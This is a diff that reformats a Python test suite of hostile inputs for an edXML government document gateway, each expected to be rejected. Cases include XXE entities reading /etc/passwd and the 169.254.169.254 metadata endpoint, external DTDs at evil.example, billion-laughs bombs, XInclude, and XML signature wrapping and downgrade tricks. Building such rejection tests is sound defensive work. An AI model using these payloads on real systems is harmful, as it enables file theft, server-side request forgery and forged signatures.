@@ -67,35 +67,54 @@ class Case:
 # -- building blocks ---------------------------------------------------------------------------
 
 
-def status(kit: Kit, *, sender: str = AGENCY, ref: str | None = None, to: str = GATEWAY,
-           code: StatusCode = StatusCode.ARRIVED, description: str = "Đã đến",
-           seconds: int = 0) -> etree._Element:
-    return edxml.encode_status(edxml.StatusPackage(
-        edxml.Organ(sender, organ_name="Bộ Xây dựng"),
-        edxml.ResponseFor(to, document_id=ref or kit.transfer_key), code,
-        kit.now.replace(second=seconds % 60), description=description))
+def status(
+    kit: Kit,
+    *,
+    sender: str = AGENCY,
+    ref: str | None = None,
+    to: str = GATEWAY,
+    code: StatusCode = StatusCode.ARRIVED,
+    description: str = "Đã đến",
+    seconds: int = 0,
+) -> etree._Element:
+    return edxml.encode_status(
+        edxml.StatusPackage(
+            edxml.Organ(sender, organ_name="Bộ Xây dựng"),
+            edxml.ResponseFor(to, document_id=ref or kit.transfer_key),
+            code,
+            kit.now.replace(second=seconds % 60),
+            description=description,
+        )
+    )
 
 
 def reply(kit: Kit, *, to: str = GATEWAY) -> etree._Element:
-    return edxml.encode_edoc(edxml.Edoc(
-        from_=edxml.Organ(AGENCY, organ_name="Bộ Xây dựng"),
-        to=(edxml.Organ(to, organ_name="Nơi nhận"),),
-        document_id=f"{AGENCY},{kit.now:%Y/%m/%d},77/TL-PAKN",
-        code_number="77", code_notation="TL-PAKN", promulgation_place="Hà Nội",
-        promulgation_date=kit.now.date(),
-        document_type=edxml.DocumentType(type=1, type_detail=0, type_name="Công văn"),
-        subject="Trả lời phản ánh, kiến nghị", content="Nội dung trả lời.",
-        response_for=(edxml.ResponseFor(GATEWAY, document_id=kit.transfer_key),),
-        trace=(edxml.TraceHeader(AGENCY, kit.now),),
-        business=edxml.Business(BusinessDocType.NEW, reason="Văn bản trả lời")))
+    return edxml.encode_edoc(
+        edxml.Edoc(
+            from_=edxml.Organ(AGENCY, organ_name="Bộ Xây dựng"),
+            to=(edxml.Organ(to, organ_name="Nơi nhận"),),
+            document_id=f"{AGENCY},{kit.now:%Y/%m/%d},77/TL-PAKN",
+            code_number="77",
+            code_notation="TL-PAKN",
+            promulgation_place="Hà Nội",
+            promulgation_date=kit.now.date(),
+            document_type=edxml.DocumentType(type=1, type_detail=0, type_name="Công văn"),
+            subject="Trả lời phản ánh, kiến nghị",
+            content="Nội dung trả lời.",
+            response_for=(edxml.ResponseFor(GATEWAY, document_id=kit.transfer_key),),
+            trace=(edxml.TraceHeader(AGENCY, kit.now),),
+            business=edxml.Business(BusinessDocType.NEW, reason="Văn bản trả lời"),
+        )
+    )
 
 
 def sign(root: etree._Element, pair: KeyPair) -> bytes:
     return XmlSigner(pair).sign(root, edxml.header_of(root))
 
 
-def signed_tree(kit: Kit, root: etree._Element | None = None,
-                pair: KeyPair | None = None) -> etree._Element:
+def signed_tree(
+    kit: Kit, root: etree._Element | None = None, pair: KeyPair | None = None
+) -> etree._Element:
     body = sign(root if root is not None else status(kit), pair or kit.agency)
     return etree.fromstring(body)
 
@@ -123,12 +142,15 @@ class _Sha1Signer(signxml.XMLSigner):
 
 def sha1_signed(kit: Kit, *, signature: str = "rsa-sha1", digest: str = "sha1") -> bytes:
     root = status(kit, description="SHA-1")
-    etree.SubElement(edxml.header_of(root), f"{{{DS_NS}}}Signature", {"Id": "placeholder"},
-                     nsmap={"ds": DS_NS})
-    signed = _Sha1Signer(method=signxml.SignatureConstructionMethod.enveloped,
-                         signature_algorithm=signature, digest_algorithm=digest,
-                         c14n_algorithm="http://www.w3.org/2001/10/xml-exc-c14n#").sign(
-        root, key=kit.agency.private_key, cert=[kit.agency.certificate])
+    etree.SubElement(
+        edxml.header_of(root), f"{{{DS_NS}}}Signature", {"Id": "placeholder"}, nsmap={"ds": DS_NS}
+    )
+    signed = _Sha1Signer(
+        method=signxml.SignatureConstructionMethod.enveloped,
+        signature_algorithm=signature,
+        digest_algorithm=digest,
+        c14n_algorithm="http://www.w3.org/2001/10/xml-exc-c14n#",
+    ).sign(root, key=kit.agency.private_key, cert=[kit.agency.certificate])
     return out(signed)
 
 
@@ -138,13 +160,18 @@ EDXML_OPEN = f'<edXML xmlns="{NS}">'.encode()
 
 
 def _doctype(subset: str, body: str = "&x;") -> Callable[[Kit], bytes]:
-    return lambda kit: (f'<?xml version="1.0"?><!DOCTYPE edXML [{subset}]>'.encode()
-                        + EDXML_OPEN + body.encode() + b"</edXML>")
+    return lambda kit: (
+        f'<?xml version="1.0"?><!DOCTYPE edXML [{subset}]>'.encode()
+        + EDXML_OPEN
+        + body.encode()
+        + b"</edXML>"
+    )
 
 
 def _billion_laughs(kit: Kit) -> bytes:
     entities = ['<!ENTITY l0 "lol">'] + [
-        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)]
+        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
+    ]
     return _doctype("".join(entities), "&l9;")(kit)
 
 
@@ -165,8 +192,10 @@ def _many_elements(kit: Kit) -> bytes:
 
 
 def _xinclude(kit: Kit) -> bytes:
-    return (EDXML_OPEN + b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
-            b'href="file:///etc/passwd" parse="text"/></edXML>')
+    return (
+        EDXML_OPEN + b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
+        b'href="file:///etc/passwd" parse="text"/></edXML>'
+    )
 
 
 def _pi_before_root(kit: Kit) -> bytes:
@@ -184,8 +213,7 @@ def _invalid_utf8(kit: Kit) -> bytes:
 
 
 def _utf16(kit: Kit) -> bytes:
-    return sign(status(kit), kit.agency).decode().replace(
-        "UTF-8", "UTF-16").encode("utf-16")
+    return sign(status(kit), kit.agency).decode().replace("UTF-8", "UTF-16").encode("utf-16")
 
 
 def _latin1_declared(kit: Kit) -> bytes:
@@ -260,10 +288,13 @@ def _signature_over_a_sibling(kit: Kit) -> bytes:
     root = status(kit, code=StatusCode.FINISHED)
     sibling = etree.SubElement(edxml.header_of(root), f"{{{NS}}}Evidence", {"Id": "s"})
     sibling.text = "signed"
-    signer = signxml.XMLSigner(method=signxml.SignatureConstructionMethod.detached,
-                               c14n_algorithm="http://www.w3.org/2001/10/xml-exc-c14n#")
-    signature = signer.sign(root, key=kit.agency.private_key, cert=[kit.agency.certificate],
-                            reference_uri="#s")
+    signer = signxml.XMLSigner(
+        method=signxml.SignatureConstructionMethod.detached,
+        c14n_algorithm="http://www.w3.org/2001/10/xml-exc-c14n#",
+    )
+    signature = signer.sign(
+        root, key=kit.agency.private_key, cert=[kit.agency.certificate], reference_uri="#s"
+    )
     edxml.header_of(root).append(signature)
     return out(root)
 
@@ -303,15 +334,17 @@ def _no_enveloped_transform(kit: Kit) -> bytes:
 def _xslt_transform(kit: Kit) -> bytes:
     root = signed_tree(kit)
     transforms = reference(root).find("ds:Transforms", DS)
-    etree.SubElement(transforms, f"{{{DS_NS}}}Transform",
-                     Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116")
+    etree.SubElement(
+        transforms, f"{{{DS_NS}}}Transform", Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"
+    )
     return out(root)
 
 
 def _hmac(kit: Kit) -> bytes:
     root = signed_tree(kit)
     root.find(".//ds:SignatureMethod", DS).set(
-        "Algorithm", "http://www.w3.org/2000/09/xmldsig#hmac-sha1")
+        "Algorithm", "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
+    )
     return out(root)
 
 
@@ -374,33 +407,59 @@ def _malformed(kit: Kit) -> bytes:
 
 CASES: tuple[Case, ...] = (
     # XML: entities, DTDs, size, nesting, constructs, encodings
-    Case("xxe-file", "external entity (file)",
-         _doctype('<!ENTITY x SYSTEM "file:///etc/passwd">'), ErrorCode.XML_DTD_FORBIDDEN),
-    Case("xxe-network", "external entity (network)",
-         _doctype('<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">'),
-         ErrorCode.XML_DTD_FORBIDDEN),
-    Case("xxe-parameter-entity", "external parameter entity",
-         _doctype('<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;', ""),
-         ErrorCode.XML_DTD_FORBIDDEN),
-    Case("external-dtd", "external DTD subset",
-         lambda kit: b'<!DOCTYPE edXML SYSTEM "http://evil.example/edxml.dtd">' + EDXML_OPEN
-         + b"</edXML>", ErrorCode.XML_DTD_FORBIDDEN),
-    Case("billion-laughs", "entity expansion bomb", _billion_laughs,
-         ErrorCode.XML_DTD_FORBIDDEN),
+    Case(
+        "xxe-file",
+        "external entity (file)",
+        _doctype('<!ENTITY x SYSTEM "file:///etc/passwd">'),
+        ErrorCode.XML_DTD_FORBIDDEN,
+    ),
+    Case(
+        "xxe-network",
+        "external entity (network)",
+        _doctype('<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">'),
+        ErrorCode.XML_DTD_FORBIDDEN,
+    ),
+    Case(
+        "xxe-parameter-entity",
+        "external parameter entity",
+        _doctype('<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;', ""),
+        ErrorCode.XML_DTD_FORBIDDEN,
+    ),
+    Case(
+        "external-dtd",
+        "external DTD subset",
+        lambda kit: (
+            b'<!DOCTYPE edXML SYSTEM "http://evil.example/edxml.dtd">' + EDXML_OPEN + b"</edXML>"
+        ),
+        ErrorCode.XML_DTD_FORBIDDEN,
+    ),
+    Case("billion-laughs", "entity expansion bomb", _billion_laughs, ErrorCode.XML_DTD_FORBIDDEN),
     Case("quadratic-blowup", "quadratic blow-up", _quadratic, ErrorCode.XML_DTD_FORBIDDEN),
-    Case("entity-without-doctype", "ENTITY declaration smuggled without DOCTYPE",
-         lambda kit: EDXML_OPEN + b'<!ENTITY x "y"></edXML>', ErrorCode.XML_DTD_FORBIDDEN),
+    Case(
+        "entity-without-doctype",
+        "ENTITY declaration smuggled without DOCTYPE",
+        lambda kit: EDXML_OPEN + b'<!ENTITY x "y"></edXML>',
+        ErrorCode.XML_DTD_FORBIDDEN,
+    ),
     Case("deep-nesting", "10 000 nested elements", _deep(10_000), ErrorCode.XML_TOO_DEEP),
-    Case("nesting-over-limit", "40 nested elements (over our 32)", _deep(40),
-         ErrorCode.XML_TOO_DEEP),
-    Case("oversize", "a signed document over the size limit", _oversize,
-         ErrorCode.XML_TOO_LARGE),
+    Case(
+        "nesting-over-limit", "40 nested elements (over our 32)", _deep(40), ErrorCode.XML_TOO_DEEP
+    ),
+    Case("oversize", "a signed document over the size limit", _oversize, ErrorCode.XML_TOO_LARGE),
     Case("too-many-elements", "50 000 elements", _many_elements, ErrorCode.XML_TOO_LARGE),
     Case("xinclude", "XInclude of a local file", _xinclude, ErrorCode.XML_FORBIDDEN_CONSTRUCT),
-    Case("pi-before-root", "processing instruction (stylesheet) before the root",
-         _pi_before_root, ErrorCode.XML_FORBIDDEN_CONSTRUCT),
-    Case("pi-in-signed-text", "processing instruction inside signed text", _pi_in_signed_text,
-         ErrorCode.XML_FORBIDDEN_CONSTRUCT),
+    Case(
+        "pi-before-root",
+        "processing instruction (stylesheet) before the root",
+        _pi_before_root,
+        ErrorCode.XML_FORBIDDEN_CONSTRUCT,
+    ),
+    Case(
+        "pi-in-signed-text",
+        "processing instruction inside signed text",
+        _pi_in_signed_text,
+        ErrorCode.XML_FORBIDDEN_CONSTRUCT,
+    ),
     Case("invalid-utf8", "invalid UTF-8 bytes", _invalid_utf8, ErrorCode.XML_ENCODING),
     Case("utf16", "UTF-16 document", _utf16, ErrorCode.XML_ENCODING),
     Case("latin1-declared", "ISO-8859-1 declared", _latin1_declared, ErrorCode.XML_ENCODING),
@@ -408,80 +467,213 @@ CASES: tuple[Case, ...] = (
     Case("empty", "empty body", lambda kit: b"", ErrorCode.XML_MALFORMED),
     # signatures: stripped, tampered, wrapped
     Case("stripped-signature", "signature removed", _stripped, ErrorCode.SIGNATURE_MISSING),
-    Case("foreign-namespace-signature", "a <Signature> outside the XML-DSig namespace",
-         _foreign_namespace_signature, ErrorCode.SIGNATURE_MISSING),
-    Case("tampered-status", "01 changed to 06 after signing", _tampered_status_code,
-         ErrorCode.SIGNATURE_INVALID),
-    Case("wrap-duplicated-element", "signed element duplicated, forged copy first",
-         _duplicated_signed_element, ErrorCode.SIGNATURE_INVALID),
-    Case("wrap-moved-into-object", "signed element moved into ds:Object, forged in its place",
-         _signed_content_moved_into_object, ErrorCode.SIGNATURE_INVALID),
-    Case("wrap-whole-document", "signed document moved under a forged one",
-         _signed_document_wrapped, ErrorCode.SIGNATURE_INVALID),
-    Case("wrap-extra-reference", "a second Reference", _extra_reference,
-         ErrorCode.SIGNATURE_REFERENCE_INVALID),
-    Case("wrap-id-reference", "Id-based reference to one node", _id_reference_to_another_node,
-         ErrorCode.SIGNATURE_REFERENCE_INVALID),
-    Case("wrap-signature-over-sibling", "valid signature over a sibling, forged status",
-         _signature_over_a_sibling, ErrorCode.SIGNATURE_REFERENCE_INVALID),
-    Case("wrap-external-reference", "Reference to an external URI", _external_reference,
-         ErrorCode.SIGNATURE_REFERENCE_INVALID),
-    Case("wrap-comment-injection", "comment spliced into signed text, text changed",
-         _comment_injection_changing_text, ErrorCode.SIGNATURE_INVALID),
-    Case("wrap-second-signature", "a second signature by another agency", _second_signature,
-         ErrorCode.SIGNATURE_REFERENCE_INVALID),
-    Case("wrap-enveloping", "enveloping signature (the status inside ds:Object)", _enveloping,
-         ErrorCode.SIGNATURE_REFERENCE_INVALID),
-    Case("no-enveloped-transform", 'URI="" without the enveloped transform',
-         _no_enveloped_transform, ErrorCode.SIGNATURE_REFERENCE_INVALID),
-    Case("xslt-transform", "an XSLT transform", _xslt_transform,
-         ErrorCode.SIGNATURE_ALGORITHM_REFUSED),
-    Case("hmac", "HMAC instead of a public-key signature", _hmac,
-         ErrorCode.SIGNATURE_ALGORITHM_REFUSED),
-    Case("garbage-signature-value", "signature value replaced", _garbage_signature_value,
-         ErrorCode.SIGNATURE_INVALID),
-    Case("garbage-certificate", "KeyInfo certificate is not X.509", _garbage_certificate,
-         ErrorCode.SIGNATURE_INVALID),
-    Case("stuffed-keyinfo", "41 certificates in KeyInfo", _stuffed_keyinfo,
-         ErrorCode.SIGNATURE_INVALID),
-    Case("sha1-not-legacy", "RSA-SHA1 from an agency not flagged legacy", sha1_signed,
-         ErrorCode.SIGNATURE_ALGORITHM_REFUSED),
-    Case("sha1-digest-only", "RSA-SHA256 over a SHA-1 digest",
-         lambda kit: sha1_signed(kit, signature="rsa-sha256"),
-         ErrorCode.SIGNATURE_ALGORITHM_REFUSED),
+    Case(
+        "foreign-namespace-signature",
+        "a <Signature> outside the XML-DSig namespace",
+        _foreign_namespace_signature,
+        ErrorCode.SIGNATURE_MISSING,
+    ),
+    Case(
+        "tampered-status",
+        "01 changed to 06 after signing",
+        _tampered_status_code,
+        ErrorCode.SIGNATURE_INVALID,
+    ),
+    Case(
+        "wrap-duplicated-element",
+        "signed element duplicated, forged copy first",
+        _duplicated_signed_element,
+        ErrorCode.SIGNATURE_INVALID,
+    ),
+    Case(
+        "wrap-moved-into-object",
+        "signed element moved into ds:Object, forged in its place",
+        _signed_content_moved_into_object,
+        ErrorCode.SIGNATURE_INVALID,
+    ),
+    Case(
+        "wrap-whole-document",
+        "signed document moved under a forged one",
+        _signed_document_wrapped,
+        ErrorCode.SIGNATURE_INVALID,
+    ),
+    Case(
+        "wrap-extra-reference",
+        "a second Reference",
+        _extra_reference,
+        ErrorCode.SIGNATURE_REFERENCE_INVALID,
+    ),
+    Case(
+        "wrap-id-reference",
+        "Id-based reference to one node",
+        _id_reference_to_another_node,
+        ErrorCode.SIGNATURE_REFERENCE_INVALID,
+    ),
+    Case(
+        "wrap-signature-over-sibling",
+        "valid signature over a sibling, forged status",
+        _signature_over_a_sibling,
+        ErrorCode.SIGNATURE_REFERENCE_INVALID,
+    ),
+    Case(
+        "wrap-external-reference",
+        "Reference to an external URI",
+        _external_reference,
+        ErrorCode.SIGNATURE_REFERENCE_INVALID,
+    ),
+    Case(
+        "wrap-comment-injection",
+        "comment spliced into signed text, text changed",
+        _comment_injection_changing_text,
+        ErrorCode.SIGNATURE_INVALID,
+    ),
+    Case(
+        "wrap-second-signature",
+        "a second signature by another agency",
+        _second_signature,
+        ErrorCode.SIGNATURE_REFERENCE_INVALID,
+    ),
+    Case(
+        "wrap-enveloping",
+        "enveloping signature (the status inside ds:Object)",
+        _enveloping,
+        ErrorCode.SIGNATURE_REFERENCE_INVALID,
+    ),
+    Case(
+        "no-enveloped-transform",
+        'URI="" without the enveloped transform',
+        _no_enveloped_transform,
+        ErrorCode.SIGNATURE_REFERENCE_INVALID,
+    ),
+    Case(
+        "xslt-transform",
+        "an XSLT transform",
+        _xslt_transform,
+        ErrorCode.SIGNATURE_ALGORITHM_REFUSED,
+    ),
+    Case(
+        "hmac",
+        "HMAC instead of a public-key signature",
+        _hmac,
+        ErrorCode.SIGNATURE_ALGORITHM_REFUSED,
+    ),
+    Case(
+        "garbage-signature-value",
+        "signature value replaced",
+        _garbage_signature_value,
+        ErrorCode.SIGNATURE_INVALID,
+    ),
+    Case(
+        "garbage-certificate",
+        "KeyInfo certificate is not X.509",
+        _garbage_certificate,
+        ErrorCode.SIGNATURE_INVALID,
+    ),
+    Case(
+        "stuffed-keyinfo",
+        "41 certificates in KeyInfo",
+        _stuffed_keyinfo,
+        ErrorCode.SIGNATURE_INVALID,
+    ),
+    Case(
+        "sha1-not-legacy",
+        "RSA-SHA1 from an agency not flagged legacy",
+        sha1_signed,
+        ErrorCode.SIGNATURE_ALGORITHM_REFUSED,
+    ),
+    Case(
+        "sha1-digest-only",
+        "RSA-SHA256 over a SHA-1 digest",
+        lambda kit: sha1_signed(kit, signature="rsa-sha256"),
+        ErrorCode.SIGNATURE_ALGORITHM_REFUSED,
+    ),
     # certificates
-    Case("key-not-matching-certificate", "signed with G18's key, G17's certificate",
-         _key_not_matching_certificate, ErrorCode.SIGNATURE_INVALID),
-    Case("self-signed", "self-signed certificate with UID=G17", _signed_with("self_signed"),
-         ErrorCode.CERT_UNTRUSTED),
-    Case("stranger-ca", "certificate from a CA not in the trust store",
-         _signed_with("stranger"), ErrorCode.CERT_UNTRUSTED),
+    Case(
+        "key-not-matching-certificate",
+        "signed with G18's key, G17's certificate",
+        _key_not_matching_certificate,
+        ErrorCode.SIGNATURE_INVALID,
+    ),
+    Case(
+        "self-signed",
+        "self-signed certificate with UID=G17",
+        _signed_with("self_signed"),
+        ErrorCode.CERT_UNTRUSTED,
+    ),
+    Case(
+        "stranger-ca",
+        "certificate from a CA not in the trust store",
+        _signed_with("stranger"),
+        ErrorCode.CERT_UNTRUSTED,
+    ),
     Case("expired", "expired certificate", _signed_with("expired"), ErrorCode.CERT_EXPIRED),
-    Case("not-yet-valid", "certificate not valid yet", _signed_with("not_yet_valid"),
-         ErrorCode.CERT_NOT_YET_VALID),
-    Case("revoked-local", "certificate on the local revocation list",
-         _signed_with("revoked_locally"), ErrorCode.CERT_REVOKED),
-    Case("revoked-crl", "certificate listed in a CRL from the CRL folder",
-         _signed_with("revoked_by_crl"), ErrorCode.CERT_REVOKED),
-    Case("another-agencys-certificate", "From G17, signed by G18", _signed_with("other"),
-         ErrorCode.CERT_ORGAN_MISMATCH),
-    Case("certificate-without-uid", "certificate bound to no agency", _signed_with("unbound"),
-         ErrorCode.CERT_ORGAN_MISMATCH),
+    Case(
+        "not-yet-valid",
+        "certificate not valid yet",
+        _signed_with("not_yet_valid"),
+        ErrorCode.CERT_NOT_YET_VALID,
+    ),
+    Case(
+        "revoked-local",
+        "certificate on the local revocation list",
+        _signed_with("revoked_locally"),
+        ErrorCode.CERT_REVOKED,
+    ),
+    Case(
+        "revoked-crl",
+        "certificate listed in a CRL from the CRL folder",
+        _signed_with("revoked_by_crl"),
+        ErrorCode.CERT_REVOKED,
+    ),
+    Case(
+        "another-agencys-certificate",
+        "From G17, signed by G18",
+        _signed_with("other"),
+        ErrorCode.CERT_ORGAN_MISMATCH,
+    ),
+    Case(
+        "certificate-without-uid",
+        "certificate bound to no agency",
+        _signed_with("unbound"),
+        ErrorCode.CERT_ORGAN_MISMATCH,
+    ),
     # addressing, references, replays
-    Case("wrong-recipient-reply", "a reply addressed to G18", _reply_to_another_recipient,
-         ErrorCode.WRONG_RECIPIENT),
-    Case("wrong-recipient-status", "a status about a document of G18",
-         lambda kit: sign(status(kit, to=OTHER), kit.agency), ErrorCode.WRONG_RECIPIENT),
-    Case("not-your-case", "G17 reports on G18's transfer",
-         lambda kit: sign(status(kit, ref=kit.other_transfer_key), kit.agency),
-         ErrorCode.NOT_YOUR_CASE),
-    Case("unknown-transfer", "a status about a transfer that does not exist",
-         lambda kit: sign(status(kit, ref="000.00.00.G22,2026/01/01,999/VPCP-PAKN"),
-                          kit.agency), ErrorCode.UNKNOWN_DOCUMENT),
-    Case("unknown-agency", "validly signed by an agency that is not registered",
-         _signed_with("unknown_agency", sender="000.00.00.G99"), ErrorCode.UNKNOWN_AGENCY),
-    Case("schema-invalid", "signed, but not a valid status package", _schema_invalid,
-         ErrorCode.SCHEMA_INVALID),
+    Case(
+        "wrong-recipient-reply",
+        "a reply addressed to G18",
+        _reply_to_another_recipient,
+        ErrorCode.WRONG_RECIPIENT,
+    ),
+    Case(
+        "wrong-recipient-status",
+        "a status about a document of G18",
+        lambda kit: sign(status(kit, to=OTHER), kit.agency),
+        ErrorCode.WRONG_RECIPIENT,
+    ),
+    Case(
+        "not-your-case",
+        "G17 reports on G18's transfer",
+        lambda kit: sign(status(kit, ref=kit.other_transfer_key), kit.agency),
+        ErrorCode.NOT_YOUR_CASE,
+    ),
+    Case(
+        "unknown-transfer",
+        "a status about a transfer that does not exist",
+        lambda kit: sign(status(kit, ref="000.00.00.G22,2026/01/01,999/VPCP-PAKN"), kit.agency),
+        ErrorCode.UNKNOWN_DOCUMENT,
+    ),
+    Case(
+        "unknown-agency",
+        "validly signed by an agency that is not registered",
+        _signed_with("unknown_agency", sender="000.00.00.G99"),
+        ErrorCode.UNKNOWN_AGENCY,
+    ),
+    Case(
+        "schema-invalid",
+        "signed, but not a valid status package",
+        _schema_invalid,
+        ErrorCode.SCHEMA_INVALID,
+    ),
     Case("replay-identical", "the same bytes again", _replay_identical, DUPLICATE),
     Case("replay-resigned", "the same DocumentId, different bytes", _replay_resigned, DUPLICATE),
 )
